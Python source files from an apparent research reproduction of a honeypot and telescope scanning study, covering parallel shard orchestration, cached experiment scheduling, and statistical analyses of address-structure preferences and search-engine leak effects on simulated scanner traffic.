    verify (config digest, shard layout, data-file hashes) are not
    re-simulated.  Shards that exhaust their retry budget are dropped
    from the merge and reported as partial coverage rather than aborting
    the run.
    """
    from repro.analysis.dataset import AnalysisDataset
    from repro.deployment.fleet import build_full_deployment
    from repro.honeypots.base import VantageCapture
    from repro.honeypots.telescope import TelescopeCapture
    from repro.scanners.population import PopulationConfig, build_population
    from repro.sim.engine import SimulationConfig, SimulationResult, Simulator
    from repro.sim.rng import RngHub

    def say(message: str) -> None:
        if not quiet:
            print(message, flush=True)

    config = config or ExperimentConfig()
    workers_requested = workers
    workers = resolve_workers(workers)
    if workers_requested == "auto":
        say(f"workers auto -> {workers} (cpu_count {os.cpu_count()})")
    num_shards = num_shards or workers
    out_dir = Path(out_dir)
    out_dir.mkdir(parents=True, exist_ok=True)
    run_started = time.perf_counter()
    stats = OrchestratorStats(num_shards=num_shards, workers=workers)

    # ---- plan (parent-side deterministic rebuild) ----
    started = time.perf_counter()
    hub = RngHub(config.seed)
    deployment = build_full_deployment(
        hub, num_telescope_slash24s=config.telescope_slash24s
    )
    population = build_population(PopulationConfig(year=config.year, scale=config.scale))
    digest = config_digest(config, len(population))
    plans: list[ShardPlan] = plan_shards(population, num_shards)
    # Phase-1/2 state (source allocation, engine crawl) is deterministic
    # and identical for every shard: compute it once here, let fork
    # workers inherit it copy-on-write, and reuse it again for the merge.
    simulation_config = SimulationConfig(seed=config.seed, window=_WINDOWS[config.year])
    parent = Simulator(deployment, population, simulation_config)
    source_ips = parent._allocate_sources()
    engines = parent._build_engines()
    stats.plan_seconds = time.perf_counter() - started
    say(f"planned {num_shards} shard(s) over {len(population)} campaigns "
        f"(config {digest[:12]})")

    # ---- dispatch (skip verified shards, retry failures) ----
    started = time.perf_counter()
    manifests: dict[int, dict] = {}
    tasks: list[dict] = []
    for plan in plans:
        shard_path = out_dir / shard_dir_name(plan.shard_index)
        if resume and verify_shard(
            shard_path, digest, plan.shard_index, num_shards, plan.spec_range
        ):
            manifests[plan.shard_index] = read_manifest(shard_path)
            stats.skipped += 1
            say(f"shard {plan.shard_index} already complete; skipping")
            continue
        tasks.append(
            build_task(config, plan.shard_index, num_shards,
                       plan.spec_range, str(out_dir), digest)
        )
    failures: dict[int, str] = {}
    if tasks:
        set_fork_state({
            "digest": digest,
            "deployment": deployment,
            "population": population,
            "source_ips": source_ips,
            "engines": engines,
        })
        try:
            fresh, failures, stats.retries = _run_pending(
                tasks, workers, max_retries, say
            )
        finally:
            set_fork_state(None)
        manifests.update(fresh)
        stats.simulated = len(fresh)
    stats.failed = len(failures)
    stats.simulate_seconds = time.perf_counter() - started
    if not manifests:
        raise RuntimeError("no shard completed; nothing to merge")

    # ---- merge (lazy: no column data is read here) ----
    # Shards open as memory-mapped banks; each vantage's capture becomes
    # a ShardedEventTable whose chunks point into the mapped spills, so
    # the merge is O(#vantages) bookkeeping regardless of event volume.
    # A merged column materializes only if an experiment asks for it.
    started = time.perf_counter()
    telescope = (
        TelescopeCapture(deployment.telescope)
        if deployment.telescope is not None
        else None
    )
    shard_tables: list[dict[str, EventTable]] = []
    for index in sorted(manifests):
        shard_path = out_dir / shard_dir_name(index)
        shard_tables.append(load_shard_tables(shard_path))
        if telescope is not None:
            merge_telescope_shard(telescope, shard_path)
    captures: dict[str, VantageCapture] = {}
    for vantage in deployment.honeypots:
        capture = VantageCapture(vantage)
        merged = ShardedEventTable.for_vantage(vantage)
        for shard_pos, tables in enumerate(shard_tables):
            part = tables.get(vantage.vantage_id)
            if part is not None and len(part):
                merged.add_part(shard_pos, part)
        if merged.parts:
            capture.table = merged
        captures[vantage.vantage_id] = capture
    result = SimulationResult(
        config=simulation_config,
        deployment=deployment,
        registry=parent.registry,
        captures=captures,
        telescope=telescope,
        engines=engines,
        population=population,
        source_ips=source_ips,
    )
    context = ExperimentContext(
        config=config,
        deployment=deployment,
        result=result,
        dataset=AnalysisDataset.from_simulation(
            result, shard_tables=shard_tables, map_workers=workers
        ),
    )
    stats.events_total = result.total_events()
    stats.merge_seconds = time.perf_counter() - started
    stats.total_seconds = time.perf_counter() - run_started

    dataset_digest = _dataset_digest(digest, manifests, failures)
    run_record = {
        "format": "cloudwatching-run/1",
        "config": {
            "year": config.year,
            "scale": config.scale,
            "telescope_slash24s": config.telescope_slash24s,
            "seed": config.seed,
        },
        "config_digest": digest,
        "dataset_digest": dataset_digest,
        "num_shards": num_shards,
        "workers": workers,
        "workers_requested": workers_requested,
        "cpu_count": os.cpu_count(),
        "stats": {
            "plan_seconds": stats.plan_seconds,
            "simulate_seconds": stats.simulate_seconds,
            "merge_seconds": stats.merge_seconds,
            "total_seconds": stats.total_seconds,
            "skipped": stats.skipped,
            "simulated": stats.simulated,
            "retries": stats.retries,
        },
        "shards": {
            str(plan.shard_index): {
                "spec_range": list(plan.spec_range),
                "status": (
                    "failed" if plan.shard_index in failures else "complete"
                ),
            }
            for plan in plans
        },
        "events_total": stats.events_total,
        "coverage": 1.0 - len(failures) / num_shards,
    }
    with open(out_dir / RUN_FILE, "w", encoding="utf-8") as handle:
        json.dump(run_record, handle, indent=2, sort_keys=True)
        handle.write("\n")

    say(f"merged {len(manifests)}/{num_shards} shard(s): "
        f"{stats.events_total:,} events in {stats.total_seconds:.2f}s"
        + (f" — PARTIAL coverage, {len(failures)} shard(s) missing"
           if failures else ""))
    return OrchestratedRun(
        config=config,
        out_dir=out_dir,
        context=context,
        dataset_digest=dataset_digest,
        stats=stats,
        manifests=manifests,
        failures=failures,
    )


def _dataset_digest(
    digest: str, manifests: dict[int, dict], failures: dict[int, str]
) -> str:
    """Content address of the merged dataset (cache key component)."""
    import hashlib

    parts = {
        "config_digest": digest,
        "shards": {
            str(index): manifests[index].get("files", {})
            for index in sorted(manifests)
        },
        "missing": sorted(failures),
    }
    return hashlib.sha256(
        json.dumps(parts, sort_keys=True).encode("utf-8")
    ).hexdigest()
