"""Sharded run orchestration: parallel workers, spill, resume, scheduling.

The paper's apparatus is inherently parallel — 48 GreyNoise vantages,
4 Honeytrap /26s, and a 475K-IP telescope captured concurrently, then 19
table/figure analyses ran over the one shared dataset.  This package is
the reproduction's equivalent of that operations layer:

* :mod:`repro.runner.plan` — deterministic contiguous partitioning of the
  scanner population into shards (same seed + same shard count → same
  plan everywhere, including inside workers).
* :mod:`repro.runner.worker` — the per-shard worker entry point: rebuild
  the deployment/population from the run configuration, simulate only the
  shard's campaigns, and spill the capture via :mod:`repro.io.shards`.
* :mod:`repro.runner.orchestrator` — drives N worker processes, skips
  shards whose manifests prove completion (``--resume``), retries
  failures a bounded number of times, degrades to partial coverage, and
  merges the shards back into one :class:`~repro.sim.engine.SimulationResult`
  that is bit-identical to a single-process run at the same seed.
* :mod:`repro.runner.scheduler` — runs experiment drivers over the merged
  dataset on a process pool with a content-addressed result cache keyed
  on (dataset digest, driver id, params).
"""

from repro.runner.orchestrator import (
    OrchestratedRun,
    OrchestratorStats,
    orchestrate,
    resolve_workers,
)
from repro.runner.plan import ShardPlan, config_digest, plan_shards
from repro.runner.scheduler import ScheduledExperiment, run_experiments

__all__ = [
    "OrchestratedRun",
    "OrchestratorStats",
    "orchestrate",
    "resolve_workers",
    "ShardPlan",
    "config_digest",
    "plan_shards",
    "ScheduledExperiment",
    "run_experiments",
]
