"""Cached experiment scheduling over a merged dataset.

The paper's 19 table/figure analyses all read one shared dataset; this
scheduler runs their drivers with two production affordances:

* **Content-addressed result cache** — each result is stored under a key
  derived from (dataset digest, driver id, params).  Re-running after a
  code-free config tweak, or re-invoking with ``--resume``, only
  recomputes drivers whose inputs actually changed; everything else is a
  cache hit served from disk.
* **Process-pool execution** — drivers are independent given the
  context, so cache misses run on a pool of forked workers that inherit
  the merged dataset by copy-on-write (no context pickling).  On
  platforms without ``fork`` the scheduler falls back to in-process
  sequential execution.

Cached outputs are pickled :class:`~repro.experiments.base.ExperimentOutput`
objects, so ``data`` (the structured rows tests assert on) survives the
round-trip, not just the rendered text.
"""

from __future__ import annotations

import hashlib
import json
import multiprocessing
import os
import pickle
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Callable, Optional, Sequence, Union

from repro.experiments import ALL_EXPERIMENTS
from repro.experiments.base import ExperimentOutput
from repro.experiments.context import ExperimentContext

__all__ = [
    "ScheduledExperiment",
    "run_experiments",
    "cache_key",
    "experiments_for_year",
    "load_cached_value",
    "store_cached_value",
]

#: Set in the parent immediately before the pool forks; workers read it.
_POOL_CONTEXT: Optional[ExperimentContext] = None


@dataclass
class ScheduledExperiment:
    """One scheduled driver run: its output plus how it was produced."""

    experiment_id: str
    output: ExperimentOutput
    cached: bool
    seconds: float
    cache_key: str


def experiments_for_year(year: int) -> list[str]:
    """Driver ids that analyze ``year``'s population (scheduler default)."""
    from repro.cli import EXPERIMENT_YEARS

    return [
        experiment_id
        for experiment_id in ALL_EXPERIMENTS
        if EXPERIMENT_YEARS.get(experiment_id, year) == year
    ]


def cache_key(dataset_digest: str, experiment_id: str, params: Optional[dict] = None) -> str:
    """Content address of one (dataset, driver, params) result."""
    payload = json.dumps(
        {
            "dataset": dataset_digest,
            "experiment": experiment_id,
            "params": params or {},
        },
        sort_keys=True,
    )
    return hashlib.sha256(payload.encode("utf-8")).hexdigest()


def _cache_path(cache_dir: Path, experiment_id: str, key: str) -> Path:
    return cache_dir / f"{experiment_id}-{key[:16]}.pkl"


def _load_cached(path: Path) -> Optional[ExperimentOutput]:
    try:
        with open(path, "rb") as handle:
            output = pickle.load(handle)
    except (OSError, pickle.PickleError, EOFError, AttributeError):
        return None
    return output if isinstance(output, ExperimentOutput) else None


def _store_cached(path: Path, output: ExperimentOutput) -> None:
    scratch = path.with_suffix(".tmp")
    with open(scratch, "wb") as handle:
        pickle.dump(output, handle, protocol=pickle.HIGHEST_PROTOCOL)
    os.replace(scratch, path)


def load_cached_value(
    cache_dir: Union[str, Path, None], name: str, key: str
):
    """Fetch one content-addressed pickled value, or ``None`` on any miss.

    The generic sibling of the experiment-output cache: callers that
    derive *other* artifacts from a dataset digest (e.g. X3's per-year
    headline metrics) share the same keying and on-disk layout.  The
    stored record carries its full key, so the truncated key in the file
    name can never serve a colliding entry.
    """
    if cache_dir is None:
        return None
    path = _cache_path(Path(cache_dir), name, key)
    try:
        with open(path, "rb") as handle:
            record = pickle.load(handle)
    except (OSError, pickle.PickleError, EOFError, AttributeError):
        return None
    if not isinstance(record, dict) or record.get("key") != key:
        return None
    return record.get("value")


def store_cached_value(
    cache_dir: Union[str, Path], name: str, key: str, value
) -> None:
    """Store one content-addressed pickled value (atomic replace)."""
    cache_dir = Path(cache_dir)
    cache_dir.mkdir(parents=True, exist_ok=True)
    path = _cache_path(cache_dir, name, key)
    scratch = path.with_suffix(".tmp")
    with open(scratch, "wb") as handle:
        pickle.dump({"key": key, "value": value}, handle,
                    protocol=pickle.HIGHEST_PROTOCOL)
    os.replace(scratch, path)


def _run_one(experiment_id: str) -> tuple[str, float, ExperimentOutput]:
    """Pool worker body: run one driver against the inherited context."""
    started = time.perf_counter()
    output = ALL_EXPERIMENTS[experiment_id](_POOL_CONTEXT)
    return experiment_id, time.perf_counter() - started, output


def run_experiments(
    context: ExperimentContext,
    dataset_digest: str,
    experiment_ids: Optional[Sequence[str]] = None,
    cache_dir: Union[str, Path, None] = None,
    workers: int = 1,
    params: Optional[dict] = None,
    say: Optional[Callable[[str], None]] = None,
) -> list[ScheduledExperiment]:
    """Run drivers over ``context``, serving unchanged ones from cache.

    Results come back in the requested order regardless of completion
    order.  ``cache_dir=None`` disables caching (every driver runs).
    """
    global _POOL_CONTEXT
    say = say or (lambda message: None)
    if experiment_ids is None:
        experiment_ids = experiments_for_year(context.config.year)
    unknown = [e for e in experiment_ids if e not in ALL_EXPERIMENTS]
    if unknown:
        raise ValueError(f"unknown experiments: {', '.join(unknown)}")
    if cache_dir is not None:
        cache_dir = Path(cache_dir)
        cache_dir.mkdir(parents=True, exist_ok=True)

    results: dict[str, ScheduledExperiment] = {}
    pending: list[str] = []
    keys = {
        experiment_id: cache_key(dataset_digest, experiment_id, params)
        for experiment_id in experiment_ids
    }
    for experiment_id in experiment_ids:
        if cache_dir is not None:
            cached = _load_cached(
                _cache_path(cache_dir, experiment_id, keys[experiment_id])
            )
            if cached is not None:
                results[experiment_id] = ScheduledExperiment(
                    experiment_id, cached, True, 0.0, keys[experiment_id]
                )
                say(f"{experiment_id} [cached]")
                continue
        pending.append(experiment_id)

    if pending:
        use_pool = workers > 1 and len(pending) > 1 and _fork_available()
        if use_pool:
            _POOL_CONTEXT = context
            try:
                pool_context = multiprocessing.get_context("fork")
                with pool_context.Pool(processes=min(workers, len(pending))) as pool:
                    outcomes = pool.map(_run_one, pending)
            finally:
                _POOL_CONTEXT = None
        else:
            _POOL_CONTEXT = context
            try:
                outcomes = [_run_one(experiment_id) for experiment_id in pending]
            finally:
                _POOL_CONTEXT = None
        for experiment_id, seconds, output in outcomes:
            key = keys[experiment_id]
            if cache_dir is not None:
                _store_cached(_cache_path(cache_dir, experiment_id, key), output)
            results[experiment_id] = ScheduledExperiment(
                experiment_id, output, False, seconds, key
            )
            say(f"{experiment_id} computed in {seconds:.2f}s")

    return [results[experiment_id] for experiment_id in experiment_ids]


def _fork_available() -> bool:
    try:
        multiprocessing.get_context("fork")
    except ValueError:  # pragma: no cover - non-POSIX platforms
        return False
    return True
