"""The per-shard simulation worker.

Workers are deliberately stateless: a task is a plain dict (so it
pickles under any multiprocessing start method), and the worker rebuilds
the deployment and population from the run configuration instead of
receiving them over IPC.  Both builds are deterministic per seed, so
every worker sees the exact fleet and population the parent planned
against — and the spilled shard is exactly the slice a single-process
run would have produced.

As an optimization, fork-started workers inherit the parent's already
built deployment/population/sources/engines through copy-on-write
memory (:func:`set_fork_state`) instead of rebuilding them; the rebuild
path remains the correctness baseline and the fallback for spawn start
methods.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

from repro.experiments.context import ExperimentConfig, _WINDOWS
from repro.io.shards import shard_dir_name, write_shard
from repro.runner.plan import config_digest, plan_shards

__all__ = ["build_task", "run_shard", "FAILPOINTS_FILE"]

#: Fault-injection hook for the retry/degradation tests: a JSON file in
#: the run directory mapping shard index (as a string) to the number of
#: times that shard should fail before succeeding.  Production runs
#: simply never create the file.
FAILPOINTS_FILE = "FAILPOINTS.json"

#: Parent-prepared run state inherited by fork-started workers (a dict
#: with ``digest``/``deployment``/``population``/``source_ips``/
#: ``engines``).  Every piece is deterministic per config, so reusing the
#: parent's copy-on-write pages instead of rebuilding per worker changes
#: nothing about the output — only the per-shard fixed cost.  Under a
#: spawn start method the global is ``None`` in the child and the worker
#: rebuilds everything from the task dict.
_FORK_STATE: dict | None = None


def set_fork_state(state: dict | None) -> None:
    """Install (or clear) the pre-fork state ``run_shard`` may inherit."""
    global _FORK_STATE
    _FORK_STATE = state


def build_task(
    config: ExperimentConfig,
    shard_index: int,
    num_shards: int,
    spec_range: tuple[int, int],
    out_dir: str,
    digest: str,
) -> dict:
    """Assemble the picklable task dict for one shard."""
    return {
        "config": {
            "year": config.year,
            "scale": config.scale,
            "telescope_slash24s": config.telescope_slash24s,
            "seed": config.seed,
        },
        "shard_index": shard_index,
        "num_shards": num_shards,
        "spec_range": [spec_range[0], spec_range[1]],
        "out_dir": out_dir,
        "config_digest": digest,
    }


def _check_failpoint(out_dir: Path, shard_index: int) -> None:
    """Raise if a test armed a failpoint for this shard (and disarm it)."""
    path = out_dir / FAILPOINTS_FILE
    if not path.exists():
        return
    try:
        failures = json.loads(path.read_text())
    except ValueError:
        return
    remaining = int(failures.get(str(shard_index), 0))
    if remaining <= 0:
        return
    failures[str(shard_index)] = remaining - 1
    path.write_text(json.dumps(failures))
    raise RuntimeError(f"injected failure for shard {shard_index} "
                       f"({remaining - 1} more armed)")


def run_shard(task: dict) -> dict:
    """Simulate one shard and spill it to disk; returns the manifest.

    Runs in a worker process (but is plain-function-callable for tests
    and the inline fallback).  The shard plan is re-derived from the
    rebuilt population and cross-checked against the task, so a planner
    drift between parent and worker fails loudly instead of silently
    producing a mis-sliced dataset.
    """
    from repro.deployment.fleet import build_full_deployment
    from repro.scanners.population import PopulationConfig, build_population
    from repro.sim.engine import SimulationConfig, run_simulation
    from repro.sim.rng import RngHub

    out_dir = Path(task["out_dir"])
    shard_index = int(task["shard_index"])
    _check_failpoint(out_dir, shard_index)

    config = ExperimentConfig(**task["config"])
    inherited = _FORK_STATE if (
        _FORK_STATE is not None
        and _FORK_STATE.get("digest") == task["config_digest"]
    ) else None
    source_ips = engines = None
    if inherited is not None:
        deployment = inherited["deployment"]
        population = inherited["population"]
        source_ips = inherited["source_ips"]
        engines = inherited["engines"]
    else:
        hub = RngHub(config.seed)
        deployment = build_full_deployment(
            hub, num_telescope_slash24s=config.telescope_slash24s
        )
        population = build_population(
            PopulationConfig(year=config.year, scale=config.scale)
        )

    digest = config_digest(config, len(population))
    if digest != task["config_digest"]:
        raise RuntimeError(
            f"worker rebuilt a different population: digest {digest} != "
            f"{task['config_digest']} (shard {shard_index})"
        )
    num_shards = int(task["num_shards"])
    lo, hi = task["spec_range"]
    planned = plan_shards(population, num_shards)[shard_index]
    if planned.spec_range != (lo, hi):
        raise RuntimeError(
            f"shard plan drift: worker derived {planned.spec_range}, "
            f"parent sent {(lo, hi)} (shard {shard_index})"
        )

    result = run_simulation(
        deployment,
        population,
        SimulationConfig(seed=config.seed, window=_WINDOWS[config.year]),
        spec_slice=(lo, hi),
        source_ips=source_ips,
        engines=engines,
    )

    streams = [
        f"scan/{spec.scanner_id}/{plan.port}"
        for spec in population[lo:hi]
        for plan in spec.plans
    ]
    manifest = write_shard(
        out_dir / shard_dir_name(shard_index),
        result.tables(),
        result.telescope,
        {
            "config": task["config"],
            "config_digest": digest,
            "shard_index": shard_index,
            "num_shards": num_shards,
            "spec_range": [lo, hi],
            "rng_streams": streams,
            "worker_pid": os.getpid(),
        },
    )
    return manifest
