"""Address-structure preference analysis (paper Section 4.2, Figure 1).

Works on the telescope's per-destination unique-scanner counts:
Figure 1 plots a 512-IP rolling average of those counts across the
telescope address range; the quantitative claims compare mean scanner
counts across structural address classes (any-255-octet, trailing-.255,
first-of-/16).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional

import numpy as np

from repro.analysis.dataset import AnalysisDataset
from repro.honeypots.telescope import TelescopeCapture
from repro.net.addresses import (
    rolling_average,
    vector_ends_in_255,
    vector_has_255_octet,
    vector_is_first_of_slash16,
)

__all__ = ["StructureProfile", "structure_profile", "figure1_series"]


@dataclass(frozen=True)
class StructureProfile:
    """Structural-preference summary for one telescope port.

    Ratios are mean-scanners(class) / mean-scanners(rest); a ratio below
    1 means avoidance (the paper's "N times less likely" is 1/ratio), a
    ratio above 1 means preference.
    """

    port: int
    mean_scanners: float
    any_255_ratio: Optional[float]
    trailing_255_ratio: Optional[float]
    slash16_first_ratio: Optional[float]
    top_target_concentration: float  # max per-IP count / mean

    def avoidance_factor_any_255(self) -> Optional[float]:
        """The paper's "N times less likely" for any-255-octet addresses."""
        if self.any_255_ratio is None or self.any_255_ratio <= 0:
            return None
        return 1.0 / self.any_255_ratio


def _class_ratio(counts: np.ndarray, mask: np.ndarray) -> Optional[float]:
    if mask.sum() == 0 or (~mask).sum() == 0:
        return None
    rest_mean = counts[~mask].mean()
    if rest_mean == 0:
        return None
    return float(counts[mask].mean() / rest_mean)


def structure_profile(telescope: TelescopeCapture, port: int) -> StructureProfile:
    """Quantify structural preferences on one telescope port."""
    counts = telescope.unique_sources_per_destination(port).astype(np.float64)
    ips = telescope.vantage.ips
    mean = float(counts.mean()) if counts.size else 0.0
    return StructureProfile(
        port=port,
        mean_scanners=mean,
        any_255_ratio=_class_ratio(counts, vector_has_255_octet(ips)),
        trailing_255_ratio=_class_ratio(counts, vector_ends_in_255(ips)),
        slash16_first_ratio=_class_ratio(counts, vector_is_first_of_slash16(ips)),
        top_target_concentration=float(counts.max() / mean) if mean > 0 else 0.0,
    )


def figure1_series(
    dataset_or_telescope: AnalysisDataset | TelescopeCapture,
    port: int,
    window: int = 512,
) -> np.ndarray:
    """The Figure 1 series: rolling average of per-IP unique scanners.

    ``window`` matches the paper's 512-IP smoothing; it is clamped to
    the telescope size for scaled-down runs.
    """
    telescope = (
        dataset_or_telescope.telescope
        if isinstance(dataset_or_telescope, AnalysisDataset)
        else dataset_or_telescope
    )
    if telescope is None:
        raise ValueError("no telescope capture available")
    counts = telescope.unique_sources_per_destination(port).astype(np.float64)
    effective_window = max(1, min(window, counts.size))
    return rolling_average(counts, effective_window)
