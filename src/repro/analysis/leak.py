"""Search-engine leak experiment analysis (paper Section 4.3, Table 3).

Compares traffic toward each leaked group (and the previously-leaked
group) against the control group:

* fold increase in traffic per hour (all traffic, and malicious-only);
* one-sided Mann–Whitney U: stochastically greater volume (bold);
* Kolmogorov–Smirnov: different hourly distribution, i.e. spikes (*);
* unique-credential counts (attackers try ~3x more unique passwords on
  leaked services).

Traffic from the search engines' own crawler ASes is excluded so that
increases are attributable to attackers, not to Censys/Shodan themselves.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Iterable, Sequence

import numpy as np

from repro.analysis.dataset import AnalysisDataset
from repro.sim.events import CapturedEvent
from repro.stats.volume import VolumeComparison, compare_volumes, count_spikes, hourly_volumes

__all__ = ["LeakRow", "leak_report", "unique_credentials_per_group", "CRAWLER_ASES"]

#: The engines' own crawler origin ASes (excluded from the comparison).
CRAWLER_ASES: frozenset[int] = frozenset({398324, 10439})

#: The (protocol, port) services the experiment emulates.
LEAK_SERVICES: tuple[tuple[str, int], ...] = (("http", 80), ("ssh", 22), ("telnet", 23))


@dataclass(frozen=True)
class LeakRow:
    """One Table 3 cell group: a service × leak-group comparison."""

    service: str  # "HTTP/80", "SSH/22", "Telnet/23"
    group: str  # "censys", "shodan", "previously"
    traffic: str  # "all" | "malicious"
    fold: float
    stochastically_greater: bool  # bold in the paper
    distribution_differs: bool  # asterisk in the paper
    leaked_spikes: int
    control_spikes: int


def _events_toward(
    dataset: AnalysisDataset,
    ips: Iterable[int],
    port: int,
    malicious_only: bool,
) -> list[CapturedEvent]:
    ip_set = set(int(ip) for ip in ips)
    selected: list[CapturedEvent] = []
    for event in dataset.events:
        if event.dst_ip not in ip_set or event.dst_port != port:
            continue
        if event.src_asn in CRAWLER_ASES:
            continue
        if malicious_only and not dataset.is_malicious(event):
            continue
        selected.append(event)
    return selected


def _per_ip_hourly(
    dataset: AnalysisDataset, ips: Sequence[int], port: int, malicious_only: bool
) -> np.ndarray:
    """Average per-IP hourly volume series for a group of honeypots."""
    hours = dataset.window.hours
    if not ips:
        return np.zeros(hours)
    events = _events_toward(dataset, ips, port, malicious_only)
    volumes = hourly_volumes((event.timestamp for event in events), hours)
    return volumes / float(len(ips))


def leak_report(dataset: AnalysisDataset, alpha: float = 0.05) -> list[LeakRow]:
    """Compute Table 3."""
    experiment = dataset.leak_experiment
    if experiment is None:
        raise ValueError("dataset has no leak experiment")

    rows: list[LeakRow] = []
    for protocol, port in LEAK_SERVICES:
        control_series = {
            malicious: _per_ip_hourly(dataset, experiment.control_ips, port, malicious)
            for malicious in (False, True)
        }
        groups: dict[str, tuple[int, ...]] = {
            "previously": experiment.previously_leaked_ips,
        }
        for leak_group in experiment.leak_groups:
            if leak_group.port == port:
                groups[leak_group.engine] = leak_group.ips

        for group_name in ("censys", "shodan", "previously"):
            ips = groups.get(group_name, ())
            for malicious_only in (False, True):
                leaked_series = _per_ip_hourly(dataset, ips, port, malicious_only)
                control = control_series[malicious_only]
                comparison: VolumeComparison = compare_volumes(leaked_series, control)
                rows.append(
                    LeakRow(
                        service=f"{protocol.upper()}/{port}"
                        if protocol != "http"
                        else "HTTP/80",
                        group=group_name,
                        traffic="malicious" if malicious_only else "all",
                        fold=comparison.fold,
                        stochastically_greater=comparison.stochastically_greater(alpha),
                        distribution_differs=comparison.distribution_differs(alpha),
                        leaked_spikes=count_spikes(leaked_series),
                        control_spikes=count_spikes(control),
                    )
                )
    return rows


def unique_credentials_per_group(
    dataset: AnalysisDataset, port: int = 22
) -> dict[str, float]:
    """Average unique passwords attempted per honeypot, per leak group.

    Section 4.3: "attackers will attempt on average 3 times more unique
    SSH passwords on leaked compared to non-leaked services."
    """
    experiment = dataset.leak_experiment
    if experiment is None:
        raise ValueError("dataset has no leak experiment")
    groups: dict[str, tuple[int, ...]] = {"control": experiment.control_ips}
    for leak_group in experiment.leak_groups:
        if leak_group.port == port:
            groups[leak_group.engine] = leak_group.ips
    averages: dict[str, float] = {}
    for name, ips in groups.items():
        per_ip_unique: list[int] = []
        for ip in ips:
            passwords: set[str] = set()
            for event in _events_toward(dataset, [ip], port, malicious_only=False):
                for _username, password in event.credentials:
                    passwords.add(password)
            per_ip_unique.append(len(passwords))
        averages[name] = float(np.mean(per_ip_unique)) if per_ip_unique else 0.0
    return averages
