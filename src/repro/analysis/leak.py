"""Search-engine leak experiment analysis (paper Section 4.3, Table 3).

Compares traffic toward each leaked group (and the previously-leaked
group) against the control group:

* fold increase in traffic per hour (all traffic, and malicious-only);
* one-sided Mann–Whitney U: stochastically greater volume (bold);
* Kolmogorov–Smirnov: different hourly distribution, i.e. spikes (*);
* unique-credential counts (attackers try ~3x more unique passwords on
  leaked services).

Traffic from the search engines' own crawler ASes is excluded so that
increases are attributable to attackers, not to Censys/Shodan themselves.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Iterable, Sequence

import numpy as np

from repro.analysis.dataset import AnalysisDataset
from repro.sim.events import CapturedEvent
from repro.stats.volume import VolumeComparison, compare_volumes, count_spikes, hourly_volumes

__all__ = ["LeakRow", "leak_report", "unique_credentials_per_group", "CRAWLER_ASES"]

#: The engines' own crawler origin ASes (excluded from the comparison).
CRAWLER_ASES: frozenset[int] = frozenset({398324, 10439})

_CRAWLER_ARRAY = np.array(sorted(CRAWLER_ASES), dtype=np.int64)

#: The (protocol, port) services the experiment emulates.
LEAK_SERVICES: tuple[tuple[str, int], ...] = (("http", 80), ("ssh", 22), ("telnet", 23))


@dataclass(frozen=True)
class LeakRow:
    """One Table 3 cell group: a service × leak-group comparison."""

    service: str  # "HTTP/80", "SSH/22", "Telnet/23"
    group: str  # "censys", "shodan", "previously"
    traffic: str  # "all" | "malicious"
    fold: float
    stochastically_greater: bool  # bold in the paper
    distribution_differs: bool  # asterisk in the paper
    leaked_spikes: int
    control_spikes: int


def _events_toward(
    dataset: AnalysisDataset,
    ips: Iterable[int],
    port: int,
    malicious_only: bool,
) -> list[CapturedEvent]:
    ip_set = set(int(ip) for ip in ips)
    selected: list[CapturedEvent] = []
    for event in dataset.events:
        if event.dst_ip not in ip_set or event.dst_port != port:
            continue
        if event.src_asn in CRAWLER_ASES:
            continue
        if malicious_only and not dataset.is_malicious(event):
            continue
        selected.append(event)
    return selected


def _per_ip_hourly(
    dataset: AnalysisDataset, ips: Sequence[int], port: int, malicious_only: bool
) -> np.ndarray:
    """Average per-IP hourly volume series for a group of honeypots."""
    hours = dataset.window.hours
    if not ips:
        return np.zeros(hours)
    events = _events_toward(dataset, ips, port, malicious_only)
    volumes = hourly_volumes((event.timestamp for event in events), hours)
    return volumes / float(len(ips))


def _engine_leak_series(
    dataset: AnalysisDataset,
    specs: list[tuple[tuple, int, tuple[int, ...], bool]],
) -> dict[tuple, np.ndarray]:
    """Shard-wise hourly histograms for every (port, group, malicious)
    spec in one pass over the event tables.

    Hourly histograms over disjoint shards are additive, so each shard
    contributes integer counts and the reduce sums them; the per-IP
    normalization happens once at assembly, matching
    :func:`_per_ip_hourly` bit-for-bit.
    """
    from repro.experiments.base import run_shard_wise

    from repro.analysis.contingency_engine import dataset_coder

    hours = dataset.window.hours
    shared_coder = dataset_coder(dataset)
    ip_arrays = {
        ips: np.asarray(ips, dtype=np.int64)
        for _key, _port, ips, _malicious_only in specs
    }
    all_ips = np.unique(np.concatenate(list(ip_arrays.values())))

    def map_shard(view) -> dict[tuple, np.ndarray]:
        from repro.analysis.contingency_engine import _sorted_view_tables

        coder = shared_coder
        hists = {spec[0]: np.zeros(hours, dtype=np.int64) for spec in specs}
        for _vpos, table in _sorted_view_tables(view):
            dst_ips = table.dst_ip
            # One membership test against the union of experiment IPs
            # skips the vast majority of vantages outright.
            relevant = np.isin(dst_ips, all_ips)
            if not relevant.any():
                continue
            ports = table.dst_port
            timestamps = table.timestamps
            keep = ~np.isin(table.src_asn, _CRAWLER_ARRAY)
            base_masks: dict[tuple[int, tuple[int, ...]], np.ndarray] = {}
            needed = None
            for _key, port, ips, malicious_only in specs:
                base_key = (port, ips)
                base = base_masks.get(base_key)
                if base is None:
                    base = (
                        np.isin(dst_ips, ip_arrays[ips])
                        & (ports == port)
                        & keep
                    )
                    base_masks[base_key] = base
                if malicious_only:
                    needed = base.copy() if needed is None else needed | base
            # Classify only the rows the malicious specs select — the leak
            # groups cover a handful of honeypot IPs, so the classifier
            # sees a sliver of the shard instead of every event.
            malicious = None
            if needed is not None and needed.any():
                rows = np.flatnonzero(needed)
                payload_codes = np.fromiter(
                    (coder.payload_code(p) for p in table.payloads[rows].tolist()),
                    dtype=np.int64,
                    count=rows.size,
                )
                has_cred = np.fromiter(
                    (bool(c) for c in table.credentials[rows].tolist()),
                    dtype=bool,
                    count=rows.size,
                )
                flags = coder.malicious_flags(ports[rows], payload_codes, has_cred)
                malicious = np.zeros(len(table), dtype=bool)
                malicious[rows] = flags
            for key, port, ips, malicious_only in specs:
                if malicious_only and malicious is None:
                    continue  # no candidate rows, nothing malicious to bin
                base = base_masks[(port, ips)]
                mask = base & malicious if malicious_only else base
                if mask.any():
                    counts, _edges = np.histogram(
                        timestamps[mask], bins=hours, range=(0.0, float(hours))
                    )
                    hists[key] += counts
        return hists

